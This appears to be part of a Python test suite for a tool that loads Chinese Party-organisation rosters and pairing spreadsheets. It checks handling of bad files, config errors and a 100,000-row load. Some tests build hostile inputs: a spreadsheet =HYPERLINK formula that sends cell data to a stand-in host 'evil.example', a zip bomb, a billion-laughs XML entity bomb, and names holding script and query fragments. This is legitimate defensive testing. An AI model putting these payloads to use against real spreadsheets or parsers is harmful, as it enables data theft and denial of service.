    assert g.names("Organization")[pr["weak"]].tolist().count(HOSTILE_NAMES[0]) == 1


@case("hostile_names", "names holding HTML/script, quotes, backticks, Cypher, SPARQL and template fragments load unchanged",
      outcome="load", check=_check_hostile)
def _(d: Path) -> None:
    base(d, roster=roster_with(extra=[org_row(n) for n in HOSTILE_NAMES]),
         pairs=[*PAIRS, ["青泥洞村党支部", HOSTILE_NAMES[0], "强村带弱村", "2024-05-01", ""]])


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此修正")'


@case("formula_injection_name", "a pairing naming an org as a spreadsheet formula (=HYPERLINK…): reported as text",
      expect=[P("unresolved_ref", PAIR_F, 2, "受援党组织", contains=(FORMULA_NAME,))], lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(2, "受援党组织"): FORMULA_NAME}))


# ---- file-level refusals ---------------------------------------------------------------------------

@case("fake_xlsx", "a CSV renamed to .xlsx",
      expect=[P("wrong_format", XL_ROSTER, None, None, contains=(XL_ROSTER, ".csv"))], lenient={"Organization": 0})
def _(d: Path) -> None:
    base(d)
    (d / ROSTER_F).rename(d / XL_ROSTER)


@case("fake_xls_html", "a web system's .xls export that is really an HTML table",
      expect=[P("wrong_format", "党组织名册.xls", None, None, contains=(".xls",))], lenient={"Organization": 0})
def _(d: Path) -> None:
    f = base(d)
    (d / ROSTER_F).unlink()
    cells = "".join("<tr>" + "".join(f"<td>{c}</td>" for c in r) + "</tr>" for r in [ROSTER_HEAD, *ROSTER])
    f.text("党组织名册.xls", f"<html><body><table>{cells}</table></body></html>")


@case("csv_really_xlsx", "an .xlsx workbook renamed to .csv",
      expect=[P("wrong_format", PAIR_F, None, None, contains=(".csv", ".xlsx"))], lenient={"Pairing": 0})
def _(d: Path) -> None:
    f = base(d)
    f.xlsx("tmp.xlsx", [Sheet("结对", [PAIR_HEAD, *PAIRS])])
    (d / "tmp.xlsx").rename(d / PAIR_F)


@case("corrupt_zip", "an .xlsx that starts like a zip and then is garbage",
      expect=[P("unreadable_file", "党组织名册2.xlsx", None, None, contains=("党组织名册2.xlsx",))],
      lenient={"Organization": 10})
def _(d: Path) -> None:
    rng = random.Random(3)
    base(d).bytes("党组织名册2.xlsx", b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(3000)))


@case("truncated_xlsx", "a real workbook cut off half-way (an interrupted download)",
      expect=[P("unreadable_file", "党组织名册2.xlsx", None, None)], lenient={"Organization": 10})
def _(d: Path) -> None:
    f = base(d)
    p = f.xlsx("党组织名册2.xlsx", [Sheet("名册", [ROSTER_HEAD, *ROSTER])])
    data = p.read_bytes()
    p.write_bytes(data[: len(data) // 2])


@case("zip_bomb", "an .xlsx whose sheet unpacks to 300 MB of zeros (ratio > 1000:1): refused before unpacking",
      expect=[P("file_too_large", "党组织名册2.xlsx", None, None, contains=("压缩炸弹", "zip bomb"))],
      lenient={"Organization": 10})
def _(d: Path) -> None:
    f = base(d)
    path = f.root / "党组织名册2.xlsx"
    chunk = b"\x00" * (1 << 20)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            for _ in range(300):
                fh.write(chunk)


@case("xml_entity_bomb", "an .xlsx whose shared strings declare a billion-laughs entity (refused, not expanded)",
      expect=[P("unreadable_file", "党组织名册2.xlsx", None, None, contains=("lol9",))], lenient={"Organization": 10})
def _(d: Path) -> None:
    f = base(d)
    src = f.xlsx("src.xlsx", [Sheet("名册", [ROSTER_HEAD, *ROSTER])])
    dtd = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(d / "党组织名册2.xlsx", "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/sharedStrings.xml":
                head, rest = data.decode("utf-8").split("?>", 1)
                data = (head + "?>" + dtd + rest.replace("青泥洞村党支部", "&lol9;")).encode("utf-8")
            zout.writestr(item, data)
    src.unlink()


# ---- settings and mappings ---------------------------------------------------------------------------

@case("config_invalid_yaml", "graphkit.yaml that is not valid YAML",
      outcome="refuse", refuse="GraphkitError", refuse_contains=("graphkit.yaml",))
def _(d: Path) -> None:
    base(d, config="county: [测试县\nfiles: {\n")


@case("config_unknown_key", "graphkit.yaml with an unknown setting (countyy)",
      outcome="refuse", refuse="GraphkitError", refuse_contains=("graphkit.yaml", "countyy"))
def _(d: Path) -> None:
    base(d, config="countyy: 测试县\n")


@case("config_unknown_mapping", "graphkit.yaml forcing a mapping id that does not exist",
      outcome="refuse", refuse="GraphkitError", refuse_contains=("graphkit.yaml", "nosuch"))
def _(d: Path) -> None:
    base(d, config="county: 测试县\nfiles:\n  党组织名册.csv: {mapping: nosuch}\n")


@case("config_bad_file_options", "graphkit.yaml whose per-file options are a list, not a mapping",
      outcome="refuse", refuse="GraphkitError", refuse_contains=("graphkit.yaml", "files"))
def _(d: Path) -> None:
    base(d, config="county: 测试县\nfiles: [党组织名册.csv]\n")


@case("config_unknown_file_option", "graphkit.yaml with a misspelt per-file option (encodng)",
      outcome="refuse", refuse="GraphkitError", refuse_contains=("graphkit.yaml", "encodng"))
def _(d: Path) -> None:
    base(d, config="county: 测试县\nfiles:\n  党组织名册.csv: {encodng: gbk}\n")


@case("config_unknown_encoding", "graphkit.yaml declaring an encoding name that does not exist",
      expect=[P("encoding", ROSTER_F, None, None, contains=("gbk2312",))], lenient={"Organization": 0})
def _(d: Path) -> None:
    base(d, config="county: 测试县\nfiles:\n  党组织名册.csv: {encoding: gbk2312}\n")


@case("no_layout_recognized", "a folder whose only ledger has headers no layout knows (nothing would load)",
      outcome="refuse", refuse="GraphkitError", refuse_contains=("mappings", "基层组织台账.csv"))
def _(d: Path) -> None:
    f = Folder(d)
    f.csv("基层组织台账.csv", ["组织全称", "所在乡镇", "人数"], [["青泥洞村党支部", "中池镇", "28"]])


@case("mapping_unknown_property", "a county mapping in DATA_DIR/mappings/ that maps an unknown property",
      outcome="refuse", refuse="MappingError", refuse_contains=("my_pairing.yaml", "colour"))
def _(d: Path) -> None:
    from graphkit.core.paths import loaders_dir

    f = base(d, pairs=PAIRS)
    text = (loaders_dir() / "pairing.yaml").read_text(encoding="utf-8").replace("form: {column: form}", "colour: {column: form}")
    f.text("mappings/my_pairing.yaml", text)


# ---- scale ------------------------------------------------------------------------------------------

BIG_ROWS = 100_000


def big_roster_rows(n: int = BIG_ROWS) -> list[list[Any]]:
    """``n`` distinct, valid roster rows across 50 towns (used by the 100k-row case and the benchmark)."""
    rows = []
    for i in range(n):
        town = f"第{i % 50 + 1}镇"
        rows.append([f"{town}{i:06d}号村党支部", "党支部", "农村", "村", town, f"{i:06d}号村", "", i % 90 + 3,
                     ("一类", "二类", "三类")[i % 3], 2024, "否" if i % 7 else "是"])
    return rows


def _check_big(g: Any) -> None:
    assert g.count("Organization") == BIG_ROWS + len(ROSTER)
    assert g.count("Place") == 1 + 2 + 4 + 50 + BIG_ROWS


@case("big_roster_100k", "a 100,000-row roster sheet (.xlsx): loads; rows/s measured",
      outcome="load", check=_check_big, slow=True)
def _(d: Path) -> None:
    f = base(d)
    f.xlsx("党组织名册_大.xlsx", [Sheet("名册", [ROSTER_HEAD, *big_roster_rows()])])
